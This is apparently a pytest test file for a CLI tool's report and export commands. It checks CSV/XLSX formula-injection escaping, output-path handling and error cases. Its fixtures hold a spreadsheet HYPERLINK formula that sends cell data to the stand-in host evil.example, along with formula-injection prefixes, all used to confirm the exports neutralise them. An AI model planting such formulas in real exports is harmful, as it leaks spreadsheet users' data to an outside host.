"""`cati report` and `cati export`: what they write, and where they refuse to write."""

from __future__ import annotations

import csv
import dataclasses
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from cati.cli import main as cati_main
from cati.spreadsheets import csv_cell, write_csv, write_xlsx
from tests.factories import create_member, create_office, create_round

EVIL_OFFICE = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
EVIL_OFFICERS = ["+1+cmd", "-2+cmd", "@SUM(1+1)", "\t=1+1", "\r=1+1", "=1+1"]


@pytest.fixture
def evil_round(session):
    """A round whose office name, officer names and codes read like formulas."""
    round_ = create_round(session)
    create_office(session, "=EVIL()", EVIL_OFFICE)
    for i, officer in enumerate(EVIL_OFFICERS):
        member = create_member(
            session, round_, office_code="=EVIL()", officer=officer, dossier_code=f"-{i}+1"
        )
        member.disposition, member.status = "2.20", "final"
    session.flush()
    return round_


def read_csv(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def formula_like(text: str) -> bool:
    return text.startswith(("=", "+", "-", "@", "\t", "\r"))


# --------------------------------------------------------------------------------------------
# No formulas in reports and exports
# --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("command", ["report", "export"])
def test_csv_cells_that_read_as_formulas_are_written_as_text(cli, evil_round, tmp_path, command):
    path = tmp_path / "out.csv"
    result = cli(command, str(evil_round.id), "--format", "csv", "--output", str(path))
    assert result.exit_code == 0, result.output
    cells = [cell for row in read_csv(path) for cell in row]
    assert not [cell for cell in cells if formula_like(cell)]
    if command == "report":
        assert "'" + EVIL_OFFICE in cells
        assert {"'" + officer for officer in EVIL_OFFICERS} <= set(cells)
    else:
        assert "'-0+1" in cells and "'=EVIL()" in cells


@pytest.mark.parametrize("command", ["report", "export"])
def test_xlsx_cells_that_read_as_formulas_are_strings(cli, evil_round, tmp_path, command):
    path = tmp_path / "out.xlsx"
    result = cli(command, str(evil_round.id), "--format", "xlsx", "--output", str(path))
    assert result.exit_code == 0, result.output
    sheet = openpyxl.load_workbook(path).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = {cell.value for cell in cells if cell.data_type == "s"}
    if command == "report":
        assert EVIL_OFFICE in texts
        assert {o.replace("\r", "\n") for o in EVIL_OFFICERS} <= texts  # XML reads \r as \n
        sampled = [c for c in cells if c.row == 2 and sheet.cell(1, c.column).value == "sampled"]
        assert [(c.value, c.data_type) for c in sampled] == [(6, "n")]  # numbers stay numbers
    else:
        assert "=EVIL()" in texts and "-0+1" in texts


def test_numbers_stay_numbers_negative_ones_too(tmp_path):
    handle = io.StringIO()
    write_csv(handle, ["n", "x"], [[-3, -0.5], [2, "-3"]])
    assert handle.getvalue().splitlines() == ["n,x", "-3,-0.5", "2,'-3"]
    assert [csv_cell(v) for v in (-1, 1.5, None, "", "a=b")] == [-1, 1.5, None, "", "a=b"]
    path = tmp_path / "n.xlsx"
    write_xlsx(path, ["n", "x"], [[-3, -0.5], ["=1", "+1"]], sheet_name="s")
    sheet = openpyxl.load_workbook(path).worksheets[0]
    assert [(c.value, c.data_type) for c in sheet[2]] == [(-3, "n"), (-0.5, "n")]
    assert [(c.value, c.data_type) for c in sheet[3]] == [("=1", "s"), ("+1", "s")]


# --------------------------------------------------------------------------------------------
# Where the output goes
# --------------------------------------------------------------------------------------------

COMMANDS = [
    ("report-json", ["report", "{id}"]),
    ("report-csv", ["report", "{id}", "--format", "csv"]),
    ("report-xlsx", ["report", "{id}", "--format", "xlsx"]),
    ("trend-csv", ["report", "--weeks", "2026-W47", "--format", "csv"]),
    ("export-csv", ["export", "{id}"]),
    ("export-xlsx", ["export", "{id}", "--format", "xlsx"]),
    ("generate", ["cases", "generate", "--week", "2026-W47", "--count", "3"]),
]


@pytest.mark.parametrize("args", [c[1] for c in COMMANDS], ids=[c[0] for c in COMMANDS])
def test_output_into_a_missing_folder_is_one_line_and_exit_2(cli, evil_round, tmp_path, args):
    path = tmp_path / "missing" / "out.file"
    result = cli(*(a.format(id=evil_round.id) for a in args), "--output", str(path))
    assert result.exit_code == 2
    assert result.stderr.strip().count("\n") == 0
    assert "no such folder" in result.stderr and str(path.parent) in result.stderr
    assert "Traceback" not in result.output
    assert not path.parent.exists()


@pytest.mark.parametrize("args", [c[1] for c in COMMANDS], ids=[c[0] for c in COMMANDS])
def test_output_file_is_complete_and_alone_in_its_folder(cli, evil_round, tmp_path, args):
    path = tmp_path / "out.file"
    result = cli(*(a.format(id=evil_round.id) for a in args), "--output", str(path))
    assert result.exit_code == 0, result.output
    assert [p.name for p in tmp_path.iterdir()] == ["out.file"]  # no temporary file left
    assert path.stat().st_size > 0


def test_a_failure_half_way_leaves_no_half_written_file(cli, evil_round, tmp_path, monkeypatch):
    from cati.services import exports

    def failing_rows(*args, **kwargs):
        yield from list(real_rows(*args, **kwargs))[:2]
        raise RuntimeError("the database went away")

    real_rows = exports.export_rows
    monkeypatch.setattr(exports, "export_rows", failing_rows)
    path = tmp_path / "export.csv"
    path.write_text("the previous export\n", encoding="utf-8")
    with pytest.raises(RuntimeError, match="went away"):
        cli("export", str(evil_round.id), "--output", str(path))
    assert path.read_text(encoding="utf-8") == "the previous export\n"
    assert [p.name for p in tmp_path.iterdir()] == ["export.csv"]


def test_xlsx_to_a_terminal_is_one_line_and_exit_2(tmp_path):
    """Run as a process whose standard output is a pseudo-terminal."""
    import pty

    env = {**os.environ, "CATI_DATABASE_URL": f"sqlite:///{tmp_path / 'cati.db'}"}
    code = "from cati.cli import main; main()"
    for args in (["report", "1", "--format", "xlsx"], ["export", "1", "--format", "xlsx"]):
        leader, follower = pty.openpty()
        try:
            result = subprocess.run(
                [sys.executable, "-c", code, *args],
                stdout=follower,
                stderr=subprocess.PIPE,
                stdin=subprocess.DEVNULL,
                cwd=tmp_path,
                env=env,
                timeout=60,
            )
        finally:
            os.close(follower)
            os.close(leader)
        assert result.returncode == 2, result.stderr
        message = result.stderr.decode()
        assert message.count("\n") == 1 and "terminal" in message and "--output" in message


# --------------------------------------------------------------------------------------------
# Usage
# --------------------------------------------------------------------------------------------


def test_report_without_round_or_weeks_says_one_is_needed(cli):
    result = cli("report")
    assert result.exit_code == 2
    assert "one of them is needed" in result.stderr and "not both" not in result.stderr
    both = cli("report", "1", "--weeks", "2026-W47")
    assert both.exit_code == 2 and "not both" in both.stderr


# --------------------------------------------------------------------------------------------
# A round whose questionnaire is gone
# --------------------------------------------------------------------------------------------


@pytest.fixture
def cli_with_flows(runtime, settings, tmp_path):
    """`cati` with CATI_FLOWS_DIR pointing at a folder of the test's making."""

    def invoke(folder: Path, *args: str):
        changed = dataclasses.replace(runtime, settings=dataclasses.replace(settings,
                                      flows_dir=folder))  # fmt: skip
        return CliRunner().invoke(cati_main, list(args), obj=changed, catch_exceptions=False)

    return invoke


GONE = [
    ("report", ["report", "{id}"]),
    ("report-csv", ["report", "{id}", "--format", "csv"]),
    ("trend", ["report", "--weeks", "2026-W46..2026-W47"]),
    ("export", ["export", "{id}"]),
    ("export-xlsx", ["export", "{id}", "--format", "xlsx", "-o", "{tmp}/x.xlsx"]),
]


@pytest.mark.parametrize("args", [g[1] for g in GONE], ids=[g[0] for g in GONE])
def test_a_round_whose_flow_file_disappeared(cli_with_flows, settings, evil_round, tmp_path, args):
    folder = tmp_path / "flows"
    folder.mkdir()
    shutil.copy(settings.flows_dir / "sipas.yaml", folder)  # mscore, the round's, is gone
    args = [a.format(id=evil_round.id, tmp=tmp_path) for a in args]
    result = cli_with_flows(folder, *args)
    assert result.exit_code == 2
    assert result.stdout == ""
    assert result.stderr.count("\n") == 1
    assert f"round {evil_round.id}" in result.stderr and "'mscore'" in result.stderr
    assert str(folder) in result.stderr
    assert not (tmp_path / "x.xlsx").exists()


@pytest.mark.parametrize("command", ["report", "export"])
def test_a_missing_or_broken_flows_folder(cli_with_flows, evil_round, tmp_path, command):
    result = cli_with_flows(tmp_path / "nowhere", command, str(evil_round.id))
    assert (result.exit_code, result.stderr.count("\n")) == (2, 1)
    assert "CATI_FLOWS_DIR" in result.stderr
    folder = tmp_path / "broken"
    folder.mkdir()
    (folder / "mscore.yaml").write_text("spec_version: [\n", encoding="utf-8")
    result = cli_with_flows(folder, command, str(evil_round.id))
    assert (result.exit_code, result.stderr.count("\n")) == (2, 1)
    assert "mscore.yaml" in result.stderr


def test_report_still_works_with_its_flow(cli, evil_round):
    result = cli("report", str(evil_round.id))
    assert result.exit_code == 0
    assert json.loads(result.stdout)["counts"]["sampled"] == len(EVIL_OFFICERS)
